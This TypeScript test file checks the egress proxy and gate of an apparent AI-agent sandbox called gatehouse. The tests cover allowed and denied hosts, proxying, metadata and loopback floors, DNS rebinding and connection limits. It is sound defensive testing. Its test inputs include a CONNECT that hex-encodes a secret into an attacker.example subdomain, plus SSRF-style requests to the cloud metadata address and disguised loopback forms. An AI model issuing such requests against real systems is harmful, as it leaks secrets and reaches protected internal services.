import { execFileSync } from "node:child_process";
import fs from "node:fs";
import http from "node:http";
import https from "node:https";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { loadShellParser, parseIp } from "@gatehouse/policy";
import type { Guard } from "@gatehouse/protocol";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FileGuard, resolveSandbox, ShellRunner } from "../src/index.js";
import { silentLog } from "@gatehouse/log";
import { EgressGate } from "../src/network/egress-gate.js";
import { EgressProxy } from "../src/network/egress-proxy.js";
import { findRelay } from "../src/network/relay-command.js";

await loadShellParser();
const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "gh-egress-")));
const work = path.join(root, "work");
fs.mkdirSync(work);
const fixtures = path.join(import.meta.dirname, "fixtures");

const servers: net.Server[] = [];
function listening<S extends net.Server>(server: S): Promise<number> {
  servers.push(server);
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as net.AddressInfo).port)));
}

/** Hosts stood for by servers on 127.0.0.1 ports: web (http), secure (https), echo (tcp), repo (git over dumb http), and one never allowed. */
const port = { web: 0, secure: 0, echo: 0, repo: 0, loopback: 0 };
beforeAll(async () => {
  port.web = await listening(http.createServer((req, res) => res.end(`web says hello to ${req.url}\n`)));
  port.secure = await listening(
    https.createServer(
      { cert: fs.readFileSync(path.join(fixtures, "https-cert.pem")), key: fs.readFileSync(path.join(fixtures, "https-key.pem")) },
      (_req, res) => res.end("secure hello\n"),
    ),
  );
  port.echo = await listening(net.createServer((s) => s.pipe(s)));
  port.loopback = await listening(http.createServer((_req, res) => res.end("a loopback service's secret\n")));
  port.repo = await listening(http.createServer((req, res) => serveFile(path.join(root, "served"), req, res)));
  makeRepo();
});
afterAll(() => {
  for (const s of servers) s.close();
  fs.rmSync(root, { recursive: true, force: true });
});

function serveFile(dir: string, req: http.IncomingMessage, res: http.ServerResponse): void {
  const file = path.join(dir, decodeURIComponent(new URL(req.url!, "http://x").pathname));
  if (!file.startsWith(dir) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
    res.statusCode = 404;
    return void res.end();
  }
  res.end(fs.readFileSync(file));
}

/** A bare repository served over git's dumb HTTP protocol. */
function makeRepo(): void {
  const src = path.join(root, "src-repo");
  const bare = path.join(root, "served", "repo.git");
  const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], { cwd, stdio: "pipe" });
  fs.mkdirSync(src);
  fs.writeFileSync(path.join(src, "README"), "served over http\n");
  git(src, "init", "-q");
  git(src, "add", "README");
  git(src, "commit", "-qm", "one");
  fs.mkdirSync(path.dirname(bare), { recursive: true });
  git(root, "clone", "-q", "--bare", src, bare);
  git(bare, "update-server-info");
}

const rule = (tool: string, pattern: string, action: "allow" | "deny" | "ask") => ({ tool, pattern, action, origin: "person" as const });
function guardWith(...network: ReturnType<typeof rule>[]): FileGuard {
  const rules: Guard = { agent: null, static: [rule("*", "*", "ask"), rule("shell_exec", "*", "allow"), ...network], runtime: [], protectedPaths: [] };
  return new FileGuard(rules, work);
}
const exact = (p: number, action: "allow" | "deny" = "allow") => rule("network", `127.0.0.1:${p}`, action);

const sandbox = resolveSandbox({ mode: "required", network: true });
/** Both relays that offer the proxy inside the sandbox: socat (scripts/test installs it) and the Node program. */
const RELAYS = [
  ["socat", new ShellRunner(work, sandbox, { watch: false, egress: { relay: findRelay() } })],
  ["node", new ShellRunner(work, sandbox, { watch: false, egress: { relay: { kind: "node" } } })],
] as const;
const runner = RELAYS[0][1];
afterAll(() => RELAYS.forEach(([, r]) => r.close()));

/**
 * Runs a command in the sandbox. NO_PROXY names loopback, so that a command reaches what it
 * serves itself; the hosts here stand on the host's 127.0.0.1, so the commands clear it.
 */
const run = (command: string, guard: FileGuard, origin: "model" | "person" = "model") => runIn(command, guard, origin, runner);

async function runIn(
  command: string,
  guard: FileGuard,
  origin: "model" | "person" = "model",
  through: ShellRunner = runner,
): Promise<{ code: number | null; out: string; err: string }> {
  const child = await through.start(`export NO_PROXY= no_proxy=; ${command}`, guard, origin);
  let out = "";
  let err = "";
  child.stdout!.on("data", (d: Buffer) => (out += d));
  child.stderr!.on("data", (d: Buffer) => (err += d));
  const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
  return { code, out, err };
}

const CURL = "curl -sS --max-time 10";

describe.each(RELAYS)("egress through the worker's proxy (relay: %s): allowed, denied and unmatched hosts", (_relay, relayRunner) => {
  const run = (command: string, guard: FileGuard) => runIn(command, guard, "model", relayRunner);

  it("curl reaches an allowed http host through the proxy variables, and not one the rules deny", async () => {
    const guard = guardWith(exact(port.web), exact(port.loopback, "deny"));
    const ok = await run(`${CURL} http://127.0.0.1:${port.web}/page`, guard);
    expect(ok).toMatchObject({ code: 0, out: "web says hello to /page\n" });
    const denied = await run(`${CURL} -f http://127.0.0.1:${port.loopback}/ ; ${CURL} http://127.0.0.1:${port.loopback}/`, guard);
    expect(denied.out).not.toContain("secret");
    expect(denied.out).toMatch(/gatehouse refused 127\.0\.0\.1:\d+: .*network "127\.0\.0\.1:\d+": deny/);
    expect(denied.err).toMatch(/403/);
  });

  it("https goes through CONNECT; SOCKS5 carries http and plain TCP", async () => {
    const guard = guardWith(exact(port.secure), exact(port.web), exact(port.echo));
    expect(await run(`${CURL} -k https://127.0.0.1:${port.secure}/`, guard)).toMatchObject({ code: 0, out: "secure hello\n" });
    expect(await run(`${CURL} -x $ALL_PROXY http://127.0.0.1:${port.web}/s`, guard)).toMatchObject({ code: 0, out: "web says hello to /s\n" });
    const tcp = await run(`node -e '${socksEcho(port.echo)}'`, guard);
    expect(tcp).toMatchObject({ code: 0, out: "echo: ping\n" });
  });

  it("a host the rules ask about is refused with the reason when nobody can be asked", async () => {
    const guard = guardWith(rule("network", `127.0.0.1:${port.secure}`, "ask"), rule("network", `127.0.0.1:${port.web}`, "ask"));
    const r = await run(`${CURL} -k https://127.0.0.1:${port.secure}/`, guard);
    expect(r.code).not.toBe(0);
    expect(r.err).toMatch(/CONNECT tunnel failed, response 403/);
    const body = await run(`${CURL} http://127.0.0.1:${port.web}/`, guard);
    expect(body.out).toMatch(/network "127\.0\.0\.1:\d+": ask.*nobody can be asked here; a network rule allowing "127\.0\.0\.1" lets it through/);
  });

  it("node, python and git over http go through the proxy under the same rules", async () => {
    const guard = guardWith(exact(port.web), exact(port.repo));
    const viaNode = `node -e 'const p=new URL(process.env.HTTP_PROXY);require("http").get({host:p.hostname,port:p.port,path:"http://127.0.0.1:${port.web}/n"},r=>r.pipe(process.stdout))'`;
    expect(await run(viaNode, guard)).toMatchObject({ code: 0, out: "web says hello to /n\n" });
    const git = await run(`git clone -q http://127.0.0.1:${port.repo}/repo.git cloned && cat cloned/README && rm -rf cloned`, guard);
    expect(git).toMatchObject({ code: 0, out: "served over http\n" });
    const py = `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1:${port.web}/py").read().decode(), end="")'`;
    expect(await run(py, guard)).toMatchObject({ code: 0, out: "web says hello to /py\n" });
  });

  it("a program that ignores the proxy variables gets no connection, even to an allowed host", async () => {
    const guard = guardWith(exact(port.web));
    const direct = await run(
      `node -e 'require("net").connect(${port.web},"127.0.0.1").on("connect",()=>console.log("CONNECTED")).on("error",e=>console.log(e.code))'; ${CURL} --noproxy "*" http://127.0.0.1:${port.web}/`,
      guard,
    );
    expect(direct.out).toMatch(/ECONNREFUSED/);
    expect(direct.out).not.toMatch(/CONNECTED|web says hello/);
  });
});

describe("floors: loopback, link-local and metadata addresses", () => {
  it("a rule allowing every host, or every loopback address, does not reach the host's loopback services", async () => {
    for (const wide of [rule("network", "*", "allow"), rule("network", "127.0.0.0/8", "allow"), rule("*", "*", "allow")]) {
      const r = await run(`${CURL} http://127.0.0.1:${port.loopback}/; ${CURL} http://localhost:${port.loopback}/`, guardWith(wide));
      expect(r.out).not.toContain("secret");
      expect(r.out).toMatch(/it reaches the host's loopback \(127\.0\.0\.1\); only a rule naming it exactly opens it/);
    }
  });

  it("metadata and link-local addresses are refused, an IPv4-mapped address as the IPv4 address it is", async () => {
    const guard = guardWith(rule("network", "*", "allow"));
    const r = await run(
      `${CURL} http://169.254.169.254/latest/meta-data/; ${CURL} http://[fd00:ec2::254]/; ${CURL} http://[::ffff:127.0.0.1]:${port.loopback}/; ${CURL} http://2130706433:${port.loopback}/`,
      guard,
    );
    expect(r.out).toMatch(/the cloud metadata service \(169\.254\.169\.254\)/);
    expect(r.out).toMatch(/the cloud metadata service \(fd00:ec2::254\)/);
    expect(r.out).toMatch(/the host's loopback \(127\.0\.0\.1\)/);
    expect(r.out).not.toContain("secret");
  });

  it("an IPv6 form that carries a floor address (NAT64, 6to4, SIIT, IPv4-compatible, Teredo) is refused as that address", async () => {
    const forms = ["64:ff9b::a9fe:a9fe", "2002:7f00:1::", "::ffff:0:7f00:1", "::7f00:1", "2001:0:4136:e378:8000:63bf:80ff:fffe"];
    const r = await run(forms.map((ip) => `${CURL} http://[${ip}]:${port.loopback}/`).join("; "), guardWith(rule("network", "*", "allow")));
    expect(r.out).toMatch(/the cloud metadata service \(169\.254\.169\.254 inside 64:ff9b::a9fe:a9fe by NAT64\)/);
    for (const form of ["6to4", "SIIT", "IPv4-compatible", "Teredo"])
      expect(r.out).toMatch(new RegExp(`the host's loopback \\(127\\.0\\.0\\.1 inside \\S+ by ${form}\\)`));
    expect(r.out).not.toContain("secret");
  });

  it("a person's own command reaches any host but the floors, with no rule", async () => {
    const r = await run(`${CURL} http://127.0.0.1:${port.loopback}/`, guardWith(), "person");
    expect(r.out).toMatch(/it reaches the host's loopback/);
  });
});

describe("--network off and host", () => {
  it("off: no proxy and no route; host: the host's network as before", async () => {
    const off = new ShellRunner(work, resolveSandbox({ mode: "required", network: false }), { watch: false });
    const host = new ShellRunner(work, resolveSandbox({ mode: "required", network: true, egress: "host" }), { watch: false });
    const guard = guardWith(exact(port.web));
    const cmd = `${CURL} http://127.0.0.1:${port.loopback}/ || echo FAILED; echo "[$HTTP_PROXY]"`;
    const outOf = async (r: ShellRunner) => {
      const child = await r.start(cmd, guard);
      let out = "";
      child.stdout!.on("data", (d: Buffer) => (out += d));
      await new Promise((resolve) => child.on("close", resolve));
      return out;
    };
    expect(await outOf(off)).toBe("FAILED\n[]\n");
    expect(await outOf(host)).toBe("a loopback service's secret\n[]\n");
    off.close();
    host.close();
  });
});

/** A node one-liner that speaks SOCKS5 to the relay, reaches the echo server and prints what comes back. */
function socksEcho(echoPort: number): string {
  return [
    `const p=new URL(process.env.ALL_PROXY);const s=require("net").connect(p.port,p.hostname);let step=0;`,
    `s.on("connect",()=>s.write(Buffer.from([5,1,0])));`,
    `s.on("data",d=>{if(step===0){step=1;s.write(Buffer.from([5,1,0,1,127,0,0,1,${echoPort >> 8},${echoPort & 0xff}]));}`,
    `else if(step===1){step=2;if(d[1]!==0){console.log("refused",d[1]);process.exit(1)}s.write("ping")}`,
    `else{console.log("echo: "+d);s.end()}});`,
  ].join("");
}

describe("the gate, with names resolved by a stand-in", () => {
  const layers = guardWith(rule("network", "*.example.org", "allow"), rule("network", "10.0.0.0/8", "deny"), rule("network", "asked.example.net", "ask"))
    .context.layers;
  const resolveTo = (address: string) => () => Promise.resolve([parseIp(address)!]);

  it("a name that resolves to loopback or into a denied block is refused; others go to the address judged", async () => {
    expect(await new EgressGate({ layers, resolve: resolveTo("127.0.0.1") }).decide("rebind.example.org", 80)).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/it reaches the host's loopback/),
    });
    expect(await new EgressGate({ layers, resolve: resolveTo("10.2.3.4") }).decide("inside.example.org", 80)).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/10\.0\.0\.0\/8/),
    });
    expect(await new EgressGate({ layers, resolve: resolveTo("93.184.216.34") }).decide("www.example.org", 443)).toEqual({
      ok: true,
      address: "93.184.216.34",
      label: "www.example.org:443",
    });
    expect(await new EgressGate({ layers }).decide("127.1", 80)).toMatchObject({ ok: false, reason: expect.stringMatching(/unusual form/) });
    expect(await new EgressGate({ layers, resolve: resolveTo("64:ff9b::a9fe:a9fe") }).decide("nat64.example.org", 80)).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/the cloud metadata service \(169\.254\.169\.254 inside 64:ff9b::a9fe:a9fe by NAT64\)/),
    });
  });

  it("a name the rules ask about is looked up only after a yes: a CONNECT carrying data in a name reaches no resolver", async () => {
    const looked: string[] = [];
    const resolveTo = (address: string) => (host: string) => (looked.push(host), Promise.resolve([parseIp(address)!]));
    const asking = guardWith(rule("network", "*", "ask")).context.layers;
    const name = `${Buffer.from("the project's secret").toString("hex")}.attacker.example`;
    const proxy = await EgressProxy.open(new EgressGate({ layers: asking, resolve: resolveTo("93.184.216.34") }), silentLog);
    const reply = await connectThrough(proxy.socketPath, `${name}:443`).finally(() => proxy.close());
    expect(reply).toMatch(/^HTTP\/1\.1 403[^]*nobody can be asked here/);
    const refused = new EgressGate({ layers: asking, resolve: resolveTo("93.184.216.34"), ask: () => Promise.resolve({ allow: false, reason: "no" }) });
    expect(await refused.decide(name, 443)).toEqual({ ok: false, label: `${name}:443`, reason: "no" });
    expect(looked).toEqual([]);
    const allowed = new EgressGate({ layers: asking, resolve: resolveTo("127.0.0.1"), ask: () => Promise.resolve({ allow: true }) });
    expect(await allowed.decide("rebind.attacker.example", 80)).toMatchObject({ ok: false, reason: expect.stringMatching(/it reaches the host's loopback/) });
    expect(looked).toEqual(["rebind.attacker.example"]);
  });

  it("asks one at a time, once per host and port for a command, and refuses past the limit of waiting connections", async () => {
    const asked: string[] = [];
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    const gate = new EgressGate({
      layers: guardWith(rule("network", "*", "ask")).context.layers,
      resolve: resolveTo("93.184.216.34"),
      ask: async (a) => {
        asked.push(a.label);
        await held;
        return { allow: true };
      },
    });
    const first = [gate.decide("a.example.com", 443), gate.decide("a.example.com", 443)];
    const more = Array.from({ length: 16 }, (_, i) => gate.decide(`h${i}.example.com`, 443));
    await new Promise((r) => setTimeout(r, 50));
    expect(asked).toEqual(["a.example.com:443"]);
    expect(await more.at(-1)).toMatchObject({ ok: false, reason: expect.stringMatching(/more than 16 connections of this command are waiting/) });
    release();
    expect(await Promise.all(first)).toMatchObject([{ ok: true }, { ok: true }]);
    await Promise.all(more);
    expect(asked).toHaveLength(16);
  });
});

/** What the proxy answers a CONNECT to `target`, sent on its socket as a sandbox's relay sends it. */
function connectThrough(socketPath: string, target: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(socketPath, () => socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    let reply = "";
    socket.on("data", (d: Buffer) => (reply += d.toString("utf8")));
    socket.on("close", () => resolve(reply));
    socket.on("error", reject);
  });
}
